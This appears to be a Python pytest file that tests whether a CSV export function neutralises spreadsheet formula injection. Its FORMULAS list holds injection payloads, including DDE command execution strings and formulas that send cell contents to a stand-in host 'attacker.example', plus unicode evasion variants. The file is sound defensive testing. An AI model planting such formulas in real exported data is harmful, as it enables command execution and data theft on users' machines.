"""CSV cells that were written to be run by a spreadsheet are shown by it instead."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dossiers.export.tables import line

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.example/?"&A1,"Xem")',
    '=IMPORTXML(CONCAT("http://attacker.example/?v=",A1),"//a")',
    '=WEBSERVICE("http://attacker.example/"&A2)',
    '=DDE("cmd";"/C calc";"x")',
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "   +1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\u3000@SUM(A1)",
    "\ufeff=1+1",
    "\0=1+1",
    "\v=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "|calc",
    "%0A=1+1",
    '="a"&"b"',
    '"=1+1',
    'x","=1+1',
    'x"\r\n"=1+1',
    "x,=1+1",
    "x;=1+1",
)
STARTS = tuple("=+-@\t\r\n＝＋－＠|%")
HARMLESS = (
    "UBND phường Thử Nghiệm",
    "Luật Đất đai 2024, Điều 166",
    "a=b",
    "2-1",
    "",
    "'quoted'",
    "12",
    "a\nb",
)


def read_back(written: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(written.decode(), newline=""), strict=True))


def runs(cell: str) -> bool:
    return cell.lstrip(" \u00a0\u200b\u3000\ufeff\0\v\f").startswith(STARTS)


@pytest.mark.parametrize("formula", FORMULAS, ids=ascii)
def test_a_formula_is_text_in_every_column(formula: str) -> None:
    ((first, second, third),) = read_back(line([formula, "b", formula]))
    assert (first, second) == (third, "b")
    assert not runs(first)
    dropped = formula.replace("\0", "").replace("\ufeff", "")
    assert first in (dropped, f"'{dropped}")


def test_the_corpus_would_run_as_it_is() -> None:
    naive = io.StringIO(newline="")
    csv.writer(naive).writerows([formula.replace("\0", "")] for formula in FORMULAS)
    found = [cell for row in read_back(naive.getvalue().encode()) for cell in row]
    assert sum(runs(cell) for cell in found) >= len(FORMULAS) - 5


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_no_formula_is_told_unchanged(text: str) -> None:
    assert read_back(line([text, "x"])) == [[text, "x"]]


def test_numbers_stay_numbers_and_nothing_is_an_empty_cell() -> None:
    assert line([12, None, 0, "a"]) == b'12,,0,"a"\r\n'


@given(st.lists(st.text(), min_size=1))
def test_whatever_is_written_stays_in_its_cell_and_runs_nowhere(cells: list[str]) -> None:
    (row,) = read_back(line([*cells, "end"]))
    assert len(row) == len(cells) + 1
    assert not any(runs(cell) for cell in row)
